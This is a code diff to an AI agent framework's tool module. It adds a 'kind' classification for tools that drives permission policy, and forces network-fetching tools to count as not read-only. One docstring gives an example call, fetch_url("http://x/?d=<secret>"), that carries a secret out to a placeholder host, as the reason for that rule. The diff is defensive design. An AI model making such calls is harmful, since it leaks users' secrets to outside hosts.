@@ -16,12 +16,42 @@ import sys
 from collections.abc import Awaitable, Callable
 from dataclasses import dataclass
 from functools import partial
-from typing import Any, TypeVar, cast, get_type_hints, overload
+from typing import Any, Literal, TypeAlias, TypeVar, cast, get_args, get_type_hints, overload
 
 import anyio.to_thread
 import pydantic
 
 from .messages import DataBlock, TextBlock, ToolCallBlock, ToolResult
+
+ToolKind: TypeAlias = Literal[
+    "read", "edit", "delete", "move", "search", "execute", "think", "fetch", "other"
+]
+"""What a tool does, in the Agent Client Protocol's words: the permission policy
+decides by kind (plan mode stops edits, execution and network; accept-edits runs
+edits), and an editor shows an icon for it."""
+
+TOOL_KINDS: tuple[ToolKind, ...] = get_args(ToolKind)
+READ_KINDS: frozenset[str] = frozenset({"read", "search", "think"})
+"""Kinds that only look: a tool of one of them may be read-only."""
+
+
+def resolve_kind(kind: str | None, read_only: bool | None) -> tuple[ToolKind, bool]:
+    """``(kind, read_only)`` after defaults: the kind from ``read_only`` when it is
+    not given (``read`` or ``other``), ``read_only`` from the kind when it is not.
+
+    A ``fetch`` tool is never read-only, whatever it claims: reaching the network
+    can carry data out (``fetch_url("http://x/?d=<secret>")``), so it must not run
+    unasked the way a read does.
+    """
+    if kind is not None and kind not in TOOL_KINDS:
+        raise ValueError(f"unknown tool kind {kind!r} (one of: {', '.join(TOOL_KINDS)})")
+    if kind is None:
+        kind = "read" if read_only else "other"
+    if read_only is None:
+        read_only = kind in READ_KINDS
+    if kind == "fetch":
+        read_only = False
+    return cast(ToolKind, kind), read_only
 
 
 class ToolArgumentError(ValueError):
@@ -49,6 +79,8 @@ class Tool(abc.ABC):
     description: str
     parameters: dict[str, Any]
     read_only: bool
+    kind: ToolKind
+    """What the tool does (see :data:`ToolKind`); defaults from ``read_only``."""
     timeout: float | None
     """Seconds this tool may run before it is stopped (None: the agent's ``tool_timeout``)."""
 
@@ -58,13 +90,14 @@ class Tool(abc.ABC):
         description: str = "",
         parameters: dict[str, Any] | None = None,
         *,
-        read_only: bool = False,
+        read_only: bool | None = None,
+        kind: ToolKind | None = None,
         timeout: float | None = None,
     ) -> None:
         self.name = name
         self.description = description
         self.parameters = parameters or {"type": "object", "properties": {}}
-        self.read_only = read_only
+        self.kind, self.read_only = resolve_kind(kind, read_only)
         self.timeout = timeout
 
     def validate(self, args: dict[str, Any]) -> dict[str, Any]:
@@ -76,7 +109,7 @@ class Tool(abc.ABC):
         """Execute with validated ``args``. Raising is fine: it becomes an error result."""
 
     def __repr__(self) -> str:
-        return f"<Tool {self.name}{' (read-only)' if self.read_only else ''}>"
+        return f"<Tool {self.name} ({self.kind}{', read-only' if self.read_only else ''})>"
 
 
 _JSON_TYPES: dict[str, type | tuple[type, ...]] = {
@@ -125,7 +158,8 @@ class FunctionTool(Tool):
         *,
         name: str | None = None,
         description: str | None = None,
-        read_only: bool = False,
+        read_only: bool | None = None,
+        kind: ToolKind | None = None,
         timeout: float | None = None,
         localns: dict[str, Any] | None = None,
     ) -> None:
@@ -147,6 +181,7 @@ class FunctionTool(Tool):
             description if description is not None else summary,
             schema,
             read_only=read_only,
+            kind=kind,
             timeout=timeout,
         )
         self.fn = fn
@@ -254,7 +289,8 @@ def tool(
     *,
     name: str | None = None,
     description: str | None = None,
-    read_only: bool = False,
+    read_only: bool | None = None,
+    kind: ToolKind | None = None,
     timeout: float | None = None,
 ) -> Callable[[Callable[..., Any]], FunctionTool]: ...
 
@@ -265,10 +301,13 @@ def tool(
     *,
     name: str | None = None,
     description: str | None = None,
-    read_only: bool = False,
+    read_only: bool | None = None,
+    kind: ToolKind | None = None,
     timeout: float | None = None,
 ) -> FunctionTool | Callable[[Callable[..., Any]], FunctionTool]:
-    """Make a tool from a typed function: ``@tool`` or ``@tool(read_only=True)``.
+    """Make a tool from a typed function: ``@tool``, ``@tool(read_only=True)`` or
+    ``@tool(kind="edit")`` (``read_only`` defaults to False, ``kind`` to ``read``
+    for a read-only tool and ``other`` otherwise).
 
     Annotations may name classes local to the defining function (the caller's
     locals are used to resolve them, also under ``from __future__ import annotations``).
@@ -279,7 +318,8 @@ def tool(
 
     def wrap(f: Callable[..., Any]) -> FunctionTool:
         return FunctionTool(
-            f, name=name, description=description, read_only=read_only, timeout=timeout, localns=localns
+            f, name=name, description=description, read_only=read_only, kind=kind, timeout=timeout,
+            localns=localns,
         )
 
     return cast(Callable[[Callable[..., Any]], FunctionTool], wrap)
